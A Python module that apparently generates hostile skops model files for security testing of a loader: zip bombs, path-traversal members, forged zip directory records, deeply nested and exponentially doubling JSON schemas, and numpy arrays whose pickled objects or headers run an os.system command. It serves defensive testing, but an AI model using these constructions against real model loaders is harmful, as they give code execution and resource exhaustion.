"""Hostile skops files: tricks of zip, JSON and numpy."""

from __future__ import annotations

import io
import json
import os
import struct
import zipfile
from pathlib import Path

import numpy as np

from hostile.bait import command, marker
from hostile.skops_maker import Gadget, attributes_of, container, good, npy, numbers, path_of, pickled, plain

# The archive


def archive_of_a_pickle(folder: Path) -> None:
    path_of(folder).write_bytes(pickled(folder).read_bytes())


def archive_that_is_cut_off(folder: Path) -> None:
    path_of(folder).write_bytes(path_of(folder).read_bytes()[:-10])


def archive_with_paths(folder: Path) -> None:
    for name in ("../../ran", str(marker(folder))):
        with zipfile.ZipFile(path_of(folder), "a") as archive:
            archive.writestr(name, b"")


def archive_with_a_member_twice(folder: Path) -> None:
    file = good(folder)
    file.save(folder)
    attributes_of(file.schema)["coef_"] = {"__module__": "os", "__class__": "system", "__loader__": "FunctionNode"}
    content = bytearray(path_of(folder).read_bytes())
    with zipfile.ZipFile(path_of(folder), "a") as archive:
        archive.writestr("schema.jsoN", json.dumps(file.schema))
    content = bytearray(path_of(folder).read_bytes().replace(b"schema.jsoN", b"schema.json"))
    path_of(folder).write_bytes(content)


def archive_with_a_second_end_in_its_comment(folder: Path) -> None:
    with zipfile.ZipFile(path_of(folder), "a") as archive:
        archive.comment = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 47, 0, 1) + b"x"


def archive_whose_list_is_elsewhere(folder: Path) -> None:
    content = path_of(folder).read_bytes()
    end = content.rindex(b"PK\x05\x06")
    path_of(folder).write_bytes(content[:end] + b"PK\x06\x07" + bytes(16) + content[end:])


def archive_with_another_name_inside(folder: Path) -> None:
    content = path_of(folder).read_bytes()
    path_of(folder).write_bytes(content.replace(b"schema.json", b"schema.jsoN", 1))


def archive_that_is_encrypted(folder: Path) -> None:
    content = bytearray(path_of(folder).read_bytes())
    start = 0
    while (start := content.find(b"PK\x01\x02", start)) >= 0:
        content[start + 8] |= 1
        start += 4
    path_of(folder).write_bytes(content)


def archive_that_is_a_bomb(folder: Path) -> None:
    file = good(folder)
    array = attributes_of(file.schema)["coef_"]
    header = npy(np.zeros((1, 1))).replace(b"(1, 1)", b"(33554428, 1)")
    with zipfile.ZipFile(path_of(folder), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", json.dumps(file.schema))
        with archive.open(array["file"], "w", force_zip64=True) as member:
            member.write(header[:128])
            for _ in range(4):
                member.write(bytes(2**26))


def archive_whose_members_overlap(folder: Path) -> None:
    file = good(folder)
    attributes = attributes_of(file.schema)
    names = [f"{number}.npy" for number in range(10_000, 12_000)]
    attributes["coef_"] = container(
        "list", [{**attributes["coef_"], "file": name, "__id__": 10**6 + index} for index, name in enumerate(names)]
    )
    file.members = {"1.npy": npy(np.zeros(2**20))}
    file.save(folder)
    content = path_of(folder).read_bytes()
    directory = content.index(b"PK\x01\x02")
    length = 46 + len("1.npy")
    entry = bytearray(content[directory : directory + length])
    entry[28:30] = struct.pack("<H", 9)
    entries = b"".join(bytes(entry[:46]) + name.encode() for name in names)
    rest = content[directory + length : content.index(b"PK\x05\x06")]
    size = len(entries) + len(rest)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(names) + 1, len(names) + 1, size, directory, 0)
    path_of(folder).write_bytes(content[:directory] + entries + rest + end)


def archive_with_a_million_members(folder: Path) -> None:
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    count = 2_000_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(entry) * count, 0, 0)
    path_of(folder).write_bytes(entry * count + end)


def archive_larger_than_any_head(folder: Path) -> None:
    with path_of(folder).open("r+b") as file:
        file.truncate(6 * 2**30)


def archive_that_is_a_pipe(folder: Path) -> None:
    path_of(folder).unlink()
    os.mkfifo(path_of(folder))


# The schema


def _schema(folder: Path, text: bytes) -> None:
    with zipfile.ZipFile(path_of(folder), "w") as archive:
        archive.writestr("schema.json", text)


def schema_nested_too_deeply(folder: Path) -> None:
    _schema(folder, b"[" * 300_000 + b"]" * 300_000)


def schema_of_lists_in_lists(folder: Path) -> None:
    file = good(folder)
    inner = plain(1)
    for _ in range(150):
        inner = container("list", [inner])
    attributes_of(file.schema)["coef_"] = inner
    file.save(folder)


def schema_of_empty_lists(folder: Path) -> None:
    _schema(folder, b'{"protocol": 2, "content": [' + b"[]," * 30_000_000 + b"[]]}")


def schema_that_doubles(folder: Path) -> None:
    file = good(folder)
    state = container("list", [plain(1)])
    for _ in range(60):
        state = container("list", [state, {**state, "content": [plain(1)]}])
    attributes_of(file.schema)["coef_"] = state
    file.save(folder)


def schema_that_is_a_number(folder: Path) -> None:
    _schema(folder, b"7")


def schema_of_false_kinds(folder: Path) -> None:
    _schema(folder, b'{"protocol": 2, "__class__": {}, "__module__": [], "__loader__": "ObjectNode", "content": 3}')


def schema_with_a_name_without_end(folder: Path) -> None:
    file = good(folder)
    file.schema.update(__class__="\n" * 10_000_000, __module__="os")
    file.save(folder)


# Arrays


def _array(folder: Path, content: bytes) -> None:
    file = good(folder)
    file.members[attributes_of(file.schema)["coef_"]["file"]] = content
    file.save(folder)


def array_that_is_a_pickle(folder: Path) -> None:
    _array(folder, pickled(folder).read_bytes())


def array_of_objects(folder: Path) -> None:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Gadget(command(folder))], dtype=object), allow_pickle=True)
    _array(folder, buffer.getvalue())


def array_that_is_an_archive(folder: Path) -> None:
    buffer = io.BytesIO()
    np.savez_compressed(buffer, arr_0=np.zeros(10_000_000))
    _array(folder, buffer.getvalue())


def array_larger_than_its_file(folder: Path) -> None:
    _array(folder, npy(np.zeros((1, 1))).replace(b"(1, 1), }", b"(99999999999, 99999), }"))


def array_of_nothing_without_end(folder: Path) -> None:
    header = b"{'descr': '<U0', 'fortran_order': False, 'shape': (999999999999,), }"
    header += b" " * (117 - len(header)) + b"\n"
    _array(folder, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)


def array_with_a_header_of_code(folder: Path) -> None:
    header = b"__import__('os').system(" + repr(command(folder)).encode() + b")\n"
    _array(folder, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)


def array_with_a_nested_header(folder: Path) -> None:
    header = b"(" * 4000 + b"\n"
    _array(folder, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)


def array_held_by_thousands(folder: Path) -> None:
    file = good(folder)
    array = attributes_of(file.schema)["coef_"]
    file.members[array["file"]] = npy(np.zeros(2**20))
    many = [{**array, "__id__": 10**6 + number} for number in range(2000)]
    attributes_of(file.schema)["coef_"] = container("list", many)
    file.save(folder)


def array_of_arrays_that_multiply(folder: Path) -> None:
    file = good(folder)
    array = attributes_of(file.schema)["coef_"]
    file.members[array["file"]] = npy(np.zeros(2**20, np.uint8))
    rows = container("list", [{**array} for _ in range(5000)])
    sides = container("tuple", [plain(1), plain(5000)])
    name = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "json"}
    attributes_of(file.schema)["coef_"] = {**name, "content": [rows], "shape": sides, "__id__": next(numbers)}
    file.save(folder)


CASES = (
    archive_of_a_pickle,
    archive_that_is_cut_off,
    archive_with_paths,
    archive_with_a_member_twice,
    archive_with_a_second_end_in_its_comment,
    archive_whose_list_is_elsewhere,
    archive_with_another_name_inside,
    archive_that_is_encrypted,
    archive_that_is_a_bomb,
    archive_whose_members_overlap,
    archive_with_a_million_members,
    archive_larger_than_any_head,
    archive_that_is_a_pipe,
    schema_nested_too_deeply,
    schema_of_lists_in_lists,
    schema_of_empty_lists,
    schema_that_doubles,
    schema_that_is_a_number,
    schema_of_false_kinds,
    schema_with_a_name_without_end,
    array_that_is_a_pickle,
    array_of_objects,
    array_that_is_an_archive,
    array_larger_than_its_file,
    array_of_nothing_without_end,
    array_with_a_header_of_code,
    array_with_a_nested_header,
    array_held_by_thousands,
    array_of_arrays_that_multiply,
)
